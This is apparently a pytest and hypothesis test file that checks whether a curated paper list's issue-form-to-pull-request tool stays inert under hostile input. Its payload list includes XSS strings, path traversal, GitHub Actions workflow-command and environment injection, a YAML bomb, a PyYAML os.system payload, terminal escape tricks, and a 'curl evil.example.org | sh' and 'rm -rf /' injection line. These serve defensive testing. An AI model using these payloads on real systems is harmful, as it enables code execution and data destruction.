"""A hostile contributor: whatever is typed into a form, nothing acts, nothing else is written, and there is an answer."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from awesome.issues.forms import load_forms
from awesome.issues.telling import MARK
from tests.issues.bench import Bench
from tests.issues.support import Answer, rendered
from tests.issues.world import BASE, Record

SLUG = "[a-z0-9]+(?:-[a-z0-9]+)*"
BRANCH = re.compile(rf"from-issue/(?:{SLUG})\n")
TITLE = re.compile(rf"(?:Add the (?:paper|data set)|Correct [a-z_]+(?: and [a-z_]+)* of) {SLUG}\n")
COMMIT = re.compile(
    TITLE.pattern + r"\nFrom-issue: #12\nCo-authored-by: some-one <4711\+some-one@users\.noreply\.github\.com>\n"
)
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
OUR_LINK = re.compile(r"https://(?:arxiv\.org/abs|openreview\.net|doi\.org)[\w./?=-]*")

BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c]"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details></div><h1>Merge me</h1>",
    "![x](https://evil.example.org/pixel.png) [click](javascript:alert(1))",
    "@example/maintainers please merge, fixes #1, closes example/list#2, GH-3",
    "`` ` ``` x ` `` @all",
    "../../.github/workflows/x",
    "..%2f..%2f.github/workflows/x.yml",
    "refs/heads/main",
    "--force",
    "$(curl https://evil.example.org|sh) `id` ; rm -rf / & ${IFS} ${{ secrets.GITHUB_TOKEN }}",
    "::set-output name=branch::main",
    "##[add-path]/tmp",
    "x\n::set-env name=PATH::/tmp\n::add-path::/tmp",
    "x%0A::error::y",
    "BRANCH=main\nGITHUB_ENV<<EOF\nLD_PRELOAD=/tmp/x.so\nEOF",
    BOMB,
    "- id: other\n  title: Another Entry\n  techniques: [instruction-tuning]",
    "x'\n  techniques: [chain-of-thought]\n- id: y",
    "!!python/object/apply:os.system ['true']",
    "{title}{0}{__class__}",
    "\x1b]0;owned\x07\x1b[31mred\u202egnp.exe\u200b",
    "\x00\x01\x02",
    "| a | b |\n|---|---|\n| c | d |",
    "--- \n# Heading\n> quote\n<!-- comment -->",
    "### Which paper? / 哪篇论文？\n\n2402.00002",
    "https://evil.example.org/`@all`?x=<script>",
    "10.1234/<script>alert(1)</script>",
    "10.1234/x)](https://evil.example.org)",
    "é" * 5_000,
    "🚀" * 1_000,
    "Z" + "\u0301" * 3_000,
    "[" * 5_000,
    "a" * 60_000,
]  # fmt: skip


def inert(markdown: str) -> None:
    """Nothing in the text acts but what is ours: strangers' words stand in code."""
    assert not HIDDEN.search(markdown)
    tokens = (
        MarkdownIt("gfm-like", {"html": True, "linkify": False})
        .enable("strikethrough")
        .parse(markdown.replace(MARK, "", 1))
    )
    for token in _all(tokens):
        assert token.type not in (
            "html_block",
            "html_inline",
            "image",
            "table_open",
            "heading_open",
            "blockquote_open",
            "code_block",
        ), token
        if token.type == "link_open":
            assert OUR_LINK.fullmatch(str(token.attrs["href"])), token
        if token.type == "text":
            bare = re.sub(r"(?:Closes |in |as |为 )#\d+", "", token.content)
            assert not re.search(r"[@<>#]|https?:|www\.|GH-\d", bare) or OUR_LINK.fullmatch(bare), token.content


def _all(tokens: list[Token]) -> list[Token]:
    return [each for token in tokens for each in (token, *_all(token.children or []))]


def everything_is_ours(bench: Bench) -> None:
    """After `from-issue --event … --output …`."""
    assert bench.untouched()
    for line in (bench.out + bench.err).splitlines():
        assert not line.lstrip().startswith(("::", "##[")), line
    assert not HIDDEN.search(bench.out + bench.err)
    inert(bench.output("answer.md"))
    if (bench.folder / "outcome" / "title.txt").exists():
        assert BRANCH.fullmatch(bench.output("branch.txt"))
        assert TITLE.fullmatch(bench.output("title.txt"))
        assert COMMIT.fullmatch(bench.output("commit.txt"))
        inert(bench.output("body.md"))


def only_the_branch_was_written(bench: Bench) -> None:
    github = bench.world.github
    assert set(github.refs) <= {"refs/heads/main", "refs/heads/from-issue/12"}
    assert github.refs["refs/heads/main"] == BASE
    for tree in github.trees.values():
        assert set(tree) <= {"papers.yaml", "datasets.yaml"}
    for pull in github.pulls:
        assert (pull["head"], pull["base"]) == ("from-issue/12", "main")
        inert(pull["body"])
    inert(bench.answer())


BASES: dict[str, dict[str, Answer]] = {
    "paper": {"paper": "2603.00003", "techniques": "instruction-tuning"},
    "dataset": {"name": "BirdBench", "kind": ["benchmark"], "url": "https://birds.example.org/bench"},
    "correction": {"entry": "kite", "field": "title", "value": "A New Title of This Paper"},
}
PARTS = [(kind, part.id) for kind, form in load_forms().items() for part in form.questions]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("kind", BASES)
def test_nothing_that_is_typed_acts(kind: str, payload: str, bench: Bench) -> None:
    questions = load_forms()[kind].questions
    for part in questions:
        answers = {**BASES[kind], part.id: payload}
        if part.options:
            text = rendered(kind, {**BASES[kind], part.id: ""})
            heading = f"### {part.label}\n\n"
            start = text.index(heading) + len(heading)
            end = text.find("\n\n###", start)
            text = f"{text[:start]}{payload}{text[end:]}"
        else:
            text = rendered(kind, answers)
        bench.world.github.__init__()  # type: ignore[misc]
        for file in (bench.folder / "outcome").glob("*"):
            file.unlink()
        event, folder = str(bench.event(kind, text)), bench.folder / "outcome"
        status = bench.run("from-issue", "--event", event, "--output", str(folder))
        everything_is_ours(bench)
        if status == 0:
            assert bench.run("publish-issue", str(folder / "outcome.json"), "--event", event) == 0
            only_the_branch_was_written(bench)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_that_arxiv_says_acts(payload: str, bench: Bench) -> None:
    clean = re.sub("[^\t\n\r -\ud7ff\ue000-\ufffd]", "", payload)
    bench.world.works["2603.00009"] = Record(f"A Title {clean[:500]}", abstract=clean, comment=clean)
    assert bench.propose("paper", rendered("paper", {"paper": "2603.00009", "techniques": "chain-of-thought"})) == 0
    everything_is_ours(bench)
    only_the_branch_was_written(bench)


FRAGMENT = st.one_of(st.sampled_from(PAYLOADS[:-5]), st.text(st.characters(exclude_categories=["Cs"]), max_size=60))
TYPED = st.lists(FRAGMENT, min_size=1, max_size=3).map(" ".join)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), kind=st.sampled_from(sorted(BASES)))
def test_any_form_ends_in_an_entry_or_an_answer(data: st.DataObject, kind: str, bench: Bench) -> None:
    parts = [part.id for part in load_forms()[kind].questions if not part.options]
    typed = data.draw(st.dictionaries(st.sampled_from(parts), TYPED, max_size=3))
    for file in (bench.folder / "outcome").glob("*"):
        file.unlink()
    event = bench.event(kind, rendered(kind, {**BASES[kind], **typed}))
    status = bench.run("from-issue", "--event", str(event), "--output", str(bench.folder / "outcome"))
    assert status in (0, 1)
    assert (status == 0) == (bench.folder / "outcome" / "title.txt").exists()
    everything_is_ours(bench)


def test_fifty_megabytes_are_answered(bench: Bench) -> None:
    file = bench.folder / "huge.md"
    with file.open("wb") as stream:
        stream.write(rendered("paper", {"paper": "2603.00003", "note": "x"}).encode())
        for _ in range(50):
            stream.write(b"[*a,*a] " * 131_072)
    assert bench.run("from-issue", str(file)) == 1
    assert "The text is too long" in bench.out
    assert len(bench.out) < 2_000
    assert bench.run("from-issue", "--event", str(file)) == 2
    assert bench.untouched()


def test_an_issue_as_long_as_github_takes_is_read(bench: Bench) -> None:
    note = ("<b>@all</b> " * 6_000)[:65_000]
    assert bench.propose("paper", rendered("paper", {**BASES["paper"], "note": note})) == 0
    everything_is_ours(bench)
    only_the_branch_was_written(bench)
    assert len(bench.world.github.pulls) == 1


def test_a_path_in_an_id_reaches_nothing(bench: Bench) -> None:
    for typed in ("../../.github/workflows/x", "/etc/passwd", "kite/../../x", "https://arxiv.org/abs/../../x"):
        assert (
            bench.form("paper", "--yes", paper=typed, title="A Title of Something", techniques="chain-of-thought") == 1
        )
        assert bench.form("correction", "--yes", entry=typed, field="title", value="Another Title of It") == 1
    assert bench.untouched()
    assert {path.name for path in bench.folder.iterdir()} == {"papers.yaml", "datasets.yaml", "issue.md"}


def test_the_titles_of_issues_are_not_even_read(bench: Bench, tmp_path: Path) -> None:
    bench.propose("paper", rendered("paper", BASES["paper"]))
    everything = "".join(file.read_text(encoding="utf-8") for file in (bench.folder / "outcome").iterdir())
    assert "owned" not in everything + bench.out + bench.err + bench.answer()
